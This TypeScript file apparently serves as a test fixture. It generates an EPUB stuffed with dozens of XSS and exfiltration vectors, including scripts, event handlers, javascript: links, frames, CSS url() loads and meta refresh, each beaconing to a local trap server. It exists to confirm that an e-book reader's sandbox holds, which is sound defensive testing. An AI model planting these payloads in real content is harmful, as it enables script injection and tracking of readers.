/**
 * A book that tries everything to get out. Each attempt either asks for `<trap>/<name>`, sets
 * `window.<name>`, or leads its frame away; none may succeed.
 */
import type { BookSpec } from './epub.ts'

const MARK =
  'top.escaped = parent.escaped = window.escaped = 1; document.body && (document.body.dataset.escaped = 1)'
const escape = (code: string) =>
  code.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;')

/** @param trap origin of a server that must never hear of it, like `http://127.0.0.1:9999` */
export const hostileBook = (trap: string): BookSpec => {
  const run = (name: string) => `${MARK}; fetch('${trap}/${name}')`
  const attr = (name: string) => escape(run(name))
  const attempts: readonly (readonly [name: string, markup: string])[] = [
    [
      'inline script',
      `<script>${run('inline-script').replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</script>`,
    ],
    ['own script file', '<script src="evil.js"></script>'],
    ['remote script', `<script src="${trap}/remote-script.js"></script>`],
    ['module script', `<script type="module">import '${trap}/module.js'</script>`],
    [
      'handlers',
      `<img src="missing.png" onerror="${attr('onerror')}" alt=""/><p onclick="${attr('onclick')}" id="click-me">click</p>`,
    ],
    [
      'body handler',
      `<div onmouseover="${attr('onmouseover')}" style="animation: x 1ms" onanimationend="${attr('onanimationend')}">hover</div>`,
    ],
    ['javascript link', `<a id="js-link" href="javascript:${attr('javascript-link')}">link</a>`],
    ['javascript link with a tab', `<a id="js-tab" href="java&#9;script:${attr('javascript-tab')}">link</a>`],
    [
      'data link',
      `<a id="data-link" href="data:text/html,&lt;script&gt;fetch('${trap}/data-link')&lt;/script&gt;">link</a>`,
    ],
    ['top link', `<a id="top-link" target="_top" href="${trap}/top-link">link</a>`],
    [
      'blank link',
      `<a id="blank-link" target="_blank" href="${trap}/blank-link" ping="${trap}/ping">link</a>`,
    ],
    ['remote frame', `<iframe src="${trap}/frame"></iframe>`],
    ['javascript frame', `<iframe src="javascript:${attr('javascript-frame')}"></iframe>`],
    [
      'srcdoc frame',
      `<iframe srcdoc="&lt;script&gt;${attr('srcdoc')}&lt;/script&gt;&lt;img src='${trap}/srcdoc.png'&gt;"></iframe>`,
    ],
    ['own frame', '<iframe src="inner.xhtml"></iframe>'],
    ['object and embed', `<object data="${trap}/object"></object><embed src="${trap}/embed"/>`],
    [
      'form',
      `<form action="${trap}/form" method="post"><input name="a" value="b"/><button id="submit">send</button></form>`,
    ],
    ['formaction', `<form><button id="formaction" formaction="${trap}/formaction">send</button></form>`],
    [
      'remote picture',
      `<img src="${trap}/picture.png" alt=""/><img srcset="${trap}/srcset.png 1x" alt=""/><picture><source srcset="${trap}/source.png"/><img src="${trap}/fallback.png" alt=""/></picture>`,
    ],
    ['protocol-relative picture', `<img src="${trap.replace('http:', '')}/relative.png" alt=""/>`],
    [
      'remote media',
      `<video src="${trap}/video.mp4" poster="${trap}/poster.png" autoplay="autoplay"></video><audio src="${trap}/audio.mp3"></audio>`,
    ],
    ['style', `<div style="background: url(${trap}/inline-style.png)">style</div>`],
    [
      'svg script',
      `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><script>${run('svg-script').replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</script><image href="${trap}/svg-image.png"/><use href="${trap}/use.svg#a"/><a id="svg-link" xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="${trap}/svg-link"><rect width="40" height="40"/></a></svg>`,
    ],
    [
      'svg animation',
      `<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="href" to="javascript:${attr('svg-set')}"/><animate attributeName="href" values="javascript:${attr('svg-animate')}"/><text y="20">animated</text></a></svg>`,
    ],
    [
      'own svg',
      '<img src="evil.svg" alt=""/><iframe src="evil.svg"></iframe><object data="evil.svg" type="image/svg+xml"></object>',
    ],
    [
      'image map',
      `<img src="dot.svg" usemap="#m" alt=""/><map name="m"><area id="area" shape="rect" coords="0,0,40,40" href="${trap}/area" alt="x"/></map>`,
    ],
    [
      'math',
      `<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext href="javascript:${attr('math')}">m</mtext></math>`,
    ],
  ]
  const head = `
    <base href="${trap}/base/"/>
    <meta http-equiv="refresh" content="0;url=${trap}/refresh"/>
    <meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'"/>
    <link rel="stylesheet" href="${trap}/sheet.css"/><link rel="stylesheet" href="evil.css"/>
    <link rel="preconnect" href="${trap}"/><link rel="dns-prefetch" href="${trap}"/>
    <link rel="preload" as="image" href="${trap}/preload.png"/><link rel="prefetch" href="${trap}/prefetch"/>
    <link rel="modulepreload" href="${trap}/modulepreload.js"/><link rel="icon" href="${trap}/icon.png"/>
    <link rel="manifest" href="${trap}/manifest.json"/>
    <style>@import url("${trap}/import.css"); @import "${trap}/import-string.css";
      @font-face { font-family: Spy; src: url("${trap}/font.woff2") } body { font-family: Spy; background: url("${trap}/background.png") }
      p::after { content: url("${trap}/content.png") } a[href^="j"] { cursor: url("${trap}/cursor.png"), auto }</style>`
  const evilSvg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${attr('own-svg-onload')}" width="40" height="40"><script>${run('own-svg').replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</script><image href="${trap}/own-svg.png"/></svg>`
  return {
    title: 'A Hostile Book',
    language: 'en',
    chapters: [
      {
        title: 'Attempts',
        head,
        body: `<h1>Attempts</h1>${attempts.map(([name, markup]) => `<h2>${name}</h2>${markup}`).join('\n')}<p>The last words.</p>`,
      },
      {
        // Not well formed: read again as HTML, where more is allowed.
        title: 'Broken',
        body: `<!doctype html><html><head><title>Broken</title>${head}</head><body onload="${run('onload').replaceAll('"', "'")}"><h1>Broken<p>Unclosed <img src=x onerror="${run('html-onerror').replaceAll('"', "'")}"><script>${run('html-script')}</script><noscript><img src="${trap}/noscript.png"></noscript><template><img src="${trap}/template.png"></template></body></html>`,
      },
    ],
    files: {
      'evil.js': { type: 'text/javascript', content: run('own-script') },
      'evil.css': {
        type: 'text/css',
        content: `@import url("${trap}/own-import.css"); h1 { background: url("${trap}/own-background.png") } @font-face { font-family: S; src: url("${trap}/own-font.woff2") } h2 { font-family: S }`,
      },
      'evil.svg': { type: 'image/svg+xml', content: evilSvg },
      'dot.svg': {
        type: 'image/svg+xml',
        content:
          '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><rect width="40" height="40"/></svg>',
      },
      'inner.xhtml': {
        type: 'application/xhtml+xml',
        content: `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>inner</title><script>${run('inner').replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</script></head><body onload="${attr('inner-onload')}"><img src="${trap}/inner.png" alt=""/></body></html>`,
      },
    },
  }
}
